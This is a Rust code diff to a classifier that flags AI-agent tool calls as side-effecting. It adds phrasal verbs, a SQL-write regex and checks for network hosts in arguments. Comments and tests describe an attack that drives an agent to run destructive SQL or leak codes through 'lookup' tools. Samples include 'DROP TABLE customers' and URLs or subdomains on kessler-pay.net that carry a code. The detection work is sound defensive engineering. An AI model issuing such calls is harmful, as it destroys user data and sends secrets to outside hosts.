@@ -133,6 +133,11 @@ pub(crate) const WRITE_VERBS: &[&str] = &[
     "unlock",
     "disable",
     "enable",
+    // Answers that commit the user (an outsider's `view_invite`: "View and accept a calendar
+    // invite").
+    "accept",
+    "decline",
+    "confirm",
 ];
 
 /// The writing verbs that are as often nouns or adjectives ("the file type", "order history",
@@ -366,8 +371,30 @@ fn describes_a_write(description: &str) -> bool {
 /// (`get_file_type`, `search_order_history`); a writing verb that is no noun, or one after
 /// `and`/`or`/`then` (`find_replace`, `get_and_delete`), still makes a writer. A name with no
 /// verb it knows is side-effecting.
+/// Two words that act together though neither acts alone: `check_out` (a cart), `check_in`
+/// (a guest, who gets a door code), `list_for_sale`, `log_out`, `opt_in`.
+const PHRASAL_ACTIONS: &[(&str, &str)] = &[
+    ("check", "in"),
+    ("check", "out"),
+    ("checkin", ""),
+    ("log", "in"),
+    ("log", "out"),
+    ("opt", "in"),
+    ("opt", "out"),
+    ("sign", "up"),
+    ("for", "sale"),
+];
+
 fn name_effect(name: &str) -> Effect {
     let w = words(name);
+    let phrasal = w.iter().enumerate().any(|(i, x)| {
+        PHRASAL_ACTIONS
+            .iter()
+            .any(|(a, b)| x == a && (b.is_empty() || w.get(i + 1).is_some_and(|next| next == b)))
+    });
+    if phrasal {
+        return Effect::SideEffecting;
+    }
     let mut parts = w.split(|x| CONJUNCTIONS.contains(&x.as_str()));
     let first = parts.next().unwrap_or_default();
     let writes = |x: &String| WRITE_VERBS.contains(&x.as_str());
@@ -410,9 +437,71 @@ fn unqualified(name: &str) -> &str {
         .map_or(name, |(_, tool)| tool)
 }
 
-/// Whether the tool's own name (its MCP server's prefix left off) reads as an action.
+/// Whether the tool's own name (its MCP server's prefix left off) reads as an action and
+/// holds a word that acts — a writing verb, or a verb of one of [`super::authority::ActionKind`]'s — so that no
+/// `readOnlyHint` can make it a lookup (`transfer_money`, `wipe_device`). A name of nouns or
+/// of words keel does not know (`tool_manual`, `weather`) does not contradict the hint.
 pub fn name_says_it_acts(tool: &ToolInfo) -> bool {
-    name_effect(unqualified(&tool.name)) == Effect::SideEffecting
+    if !name_acts(&tool.name) {
+        return false;
+    }
+    let name = words(unqualified(&tool.name));
+    name.iter().any(|w| {
+        WRITE_VERBS.contains(&w.as_str()) || IRREGULAR_PAST.iter().any(|(past, _)| past == w)
+    }) || super::authority::names_an_action(&name)
+}
+
+/// [`name_says_it_acts`] of a tool's name alone.
+pub fn name_acts(name: &str) -> bool {
+    name_effect(unqualified(name)) == Effect::SideEffecting
+}
+
+/// A statement that changes a database, wherever an argument carries one.
+static SQL_WRITE: std::sync::LazyLock<Option<regex::Regex>> = std::sync::LazyLock::new(|| {
+    regex::Regex::new(
+        r"(?i)\b(?:(?:drop|truncate|alter)\s+(?:table|database|schema|index|view|user|role)|delete\s+from|insert\s+into|update\s+\S+\s+set|grant\s+\w+|revoke\s+\w+|create\s+(?:table|user|role|database))\b",
+    )
+    .ok()
+});
+
+/// Words of a key that say its value is a place on the network.
+const NETWORK_KEYS: &[&str] = &[
+    "domain", "host", "hostname", "url", "uri", "link", "href", "endpoint", "website", "site",
+];
+
+/// A call's effect: its tool's, made side-effecting by what its arguments say the call does
+/// whatever the tool is called (an outsider's attack ran each through a "lookup"): a statement
+/// that changes a database (`DROP TABLE …` to `query_database`), or a place on the network —
+/// a link with a scheme, or a host under a key that names one — which the lookup reaches and
+/// so carries whatever is written in it (`get_image {"src": "https://evil/l.png?k=<code>"}`,
+/// `lookup_domain {"domain": "<code>.evil.net"}`).
+pub fn call_effect(tool: Effect, args: &Value) -> Effect {
+    fn acts(key: &str, v: &Value) -> bool {
+        match v {
+            Value::String(s) => {
+                let t = s.trim_start();
+                let lower = t.get(..8).unwrap_or(t).to_ascii_lowercase();
+                let linked = ["http://", "https://", "ftp://", "ws://", "wss://"]
+                    .iter()
+                    .any(|scheme| lower.starts_with(scheme));
+                let hosted = !key.is_empty()
+                    && words(key)
+                        .iter()
+                        .any(|w| NETWORK_KEYS.contains(&w.as_str()))
+                    && t.contains('.')
+                    && !t.contains(char::is_whitespace)
+                    && !t.starts_with(['/', '.', '~']);
+                linked || hosted || SQL_WRITE.as_ref().is_none_or(|re| re.is_match(s))
+            }
+            Value::Array(items) => items.iter().any(|i| acts(key, i)),
+            Value::Object(map) => map.iter().any(|(k, v)| acts(k, v)),
+            _ => false,
+        }
+    }
+    if tool == Effect::SideEffecting || acts("", args) {
+        return Effect::SideEffecting;
+    }
+    Effect::ReadOnly
 }
 
 /// Classifies a tool. Annotations win, but for a `readOnlyHint: true` on a tool whose name
@@ -468,6 +557,65 @@ pub fn classify(tool: &ToolInfo) -> Effect {
 mod tests {
     use super::*;
     use serde_json::json;
+
+    /// An outsider's attack: lookups whose arguments change a database or reach a host the
+    /// data named, and names whose two words act together.
+    #[test]
+    fn what_a_calls_arguments_do_makes_a_lookup_act() {
+        for args in [
+            json!({"sql": "DROP TABLE customers"}),
+            json!({"q": "delete from users where 1=1"}),
+            json!({"src": "https://kessler-pay.net/l.png?k=731904"}),
+            json!({"domain": "code-731904.kessler-pay.net"}),
+            json!({"link": " HTTPS://kessler-pay.net/c?d=all"}),
+        ] {
+            assert_eq!(
+                call_effect(Effect::ReadOnly, &args),
+                Effect::SideEffecting,
+                "{args}"
+            );
+        }
+        for args in [
+            json!({"sql": "SELECT name FROM customers WHERE id = 4"}),
+            json!({"path": "scripts/setup.sh"}),
+            json!({"query": "how to update the table of contents"}),
+            json!({"pattern": "fn main"}),
+        ] {
+            assert_eq!(
+                call_effect(Effect::ReadOnly, &args),
+                Effect::ReadOnly,
+                "{args}"
+            );
+        }
+        for name in [
+            "check_out",
+            "check_in_guest",
+            "list_for_sale",
+            "view_invite_and_accept",
+        ] {
+            assert!(name_acts(name), "{name}");
+        }
+        assert!(!name_acts("check_status"));
+        let invite = ToolInfo {
+            name: "view_invite".into(),
+            description: "View and accept a calendar invite".into(),
+            ..ToolInfo::default()
+        };
+        assert_eq!(classify(&invite), Effect::SideEffecting);
+        // A read-only hint is believed where no word of the name acts, known or not; never
+        // where one does.
+        let hinted = |name: &str| ToolInfo {
+            name: name.into(),
+            annotations: json!({"readOnlyHint": true}).as_object().cloned(),
+            ..ToolInfo::default()
+        };
+        for name in ["tool_manual", "weather", "mcp__time__current_time"] {
+            assert_eq!(classify(&hinted(name)), Effect::ReadOnly, "{name}");
+        }
+        for name in ["transfer_money", "wipe_device", "mcp__gh__delete_repository"] {
+            assert_eq!(classify(&hinted(name)), Effect::SideEffecting, "{name}");
+        }
+    }
 
     fn tool(name: &str) -> ToolInfo {
         ToolInfo {
